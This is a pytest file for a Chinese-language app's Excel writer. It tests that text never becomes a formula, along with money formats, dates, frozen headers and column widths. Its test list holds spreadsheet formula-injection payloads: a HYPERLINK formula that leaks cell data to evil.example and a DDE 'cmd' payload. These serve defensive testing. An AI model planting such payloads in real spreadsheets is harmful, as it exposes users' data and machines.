"""The one Excel writer: text never becomes a formula and reads back as entered, amounts are
numbers in the money format, dates are dates, the header row is frozen, columns have widths."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

from openpyxl import load_workbook

from core.exports import MONEY_FORMAT, Column, Sheet, workbook_bytes, xlsx_bytes
from core.money import Yuan

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"查看证据材料")',
    "+1",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]


def _book(content: bytes):
    return load_workbook(BytesIO(content))


def _all_cells(book):
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_hostile_text_is_a_string_that_reads_back_as_entered():
    content = xlsx_bytes(
        sheet="=evil",
        heading=HOSTILE[0],
        header=["说明", *HOSTILE[1:3]],
        rows=[[text, f"正常文字 {n}", None] for n, text in enumerate(HOSTILE)],
    )
    book = _book(content)
    cells = _all_cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book.active
    assert sheet.title == "=evil"
    assert sheet["A1"].value == HOSTILE[0]
    assert [sheet.cell(row=3 + n, column=1).value for n in range(len(HOSTILE))] == HOSTILE
    # Every text starting like a formula carries Excel's quote prefix (the typed leading ').
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert bool(cell.quotePrefix) == cell.value.startswith(("=", "+", "-", "@", "\t"))


def test_a_leading_carriage_return_stays_text_too():
    book = _book(xlsx_bytes(sheet="s", header=["a"], rows=[["\r=1+1"]]))
    cell = book.active["A2"]
    # XML keeps a carriage return as a line break; the cell is text, never a formula.
    assert cell.data_type == "s" and cell.quotePrefix and cell.value.endswith("=1+1")


def test_control_characters_xml_cannot_hold_are_dropped_not_fatal():
    book = _book(xlsx_bytes(sheet="s", header=["a"], rows=[["甲\x00乙\x07丙\n丁\t戊"]]))
    assert book.active["A2"].value == "甲乙丙\n丁\t戊"


def test_amounts_are_numbers_in_the_money_format_and_dates_are_dates():
    moment = datetime(2026, 10, 1, 1, 30, tzinfo=UTC)  # 09:30 in Shanghai
    content = xlsx_bytes(
        sheet="s",
        header=["金额", Column("合同额", kind="money"), "日期", "时间", "个数", "比例"],
        rows=[[Yuan(Decimal("1234.50")), Decimal("99000.00"), date(2026, 9, 30), moment, 3, 0.5]],
    )
    row = next(iter(_book(content).active.iter_rows(min_row=2)))
    assert [c.value for c in row] == [
        1234.5,
        99000,
        # Excel keeps wall-clock times without a zone: what reads back is naive Shanghai time.
        datetime(2026, 9, 30),  # noqa: DTZ001
        datetime(2026, 10, 1, 9, 30),  # noqa: DTZ001
        3,
        0.5,
    ]
    assert [c.data_type for c in row] == ["n", "n", "d", "d", "n", "n"]
    assert row[0].number_format == row[1].number_format == MONEY_FORMAT
    assert row[2].number_format == "yyyy-mm-dd"
    assert row[3].number_format == "yyyy-mm-dd hh:mm"
    assert row[4].number_format == "General"


def test_the_header_row_is_frozen_below_the_heading_and_columns_have_widths():
    content = workbook_bytes(
        [
            Sheet(title="一", header=["编号", "项目名称"], rows=[["1", "文献路" * 10]]),
            Sheet(
                title="二",
                heading=["标题", ["筛选条件", "街道：拱辰街道"], []],
                header=["编号"],
                rows=iter([["1"], ["2"]]),
            ),
        ]
    )
    book = _book(content)
    first, second = book["一"], book["二"]
    assert first.freeze_panes == "A2"
    assert second.freeze_panes == "A5"
    assert [r[0].value for r in second.iter_rows()] == ["标题", "筛选条件", None, "编号", "1", "2"]
    assert first["A1"].font.bold and second["A4"].font.bold
    widths = first.column_dimensions
    # Chinese characters count double; the long name is capped.
    assert widths["A"].width == 6 and widths["B"].width == 60
